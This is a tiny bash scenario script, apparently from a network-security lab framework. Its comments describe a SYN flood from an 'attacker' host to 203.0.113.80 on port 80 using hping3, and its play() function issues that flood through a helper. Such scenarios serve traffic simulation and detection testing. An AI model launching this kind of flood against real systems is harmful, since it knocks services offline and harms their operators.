# shellcheck shell=bash
# about: a host inside floods one outside: both ends are told (hping3)
# type: attack
# kind: syn_flood
# target: 203.0.113.80
# source: attacker
# tools: hping3
play() {
	flood attacker 203.0.113.80 -S -p 80
}
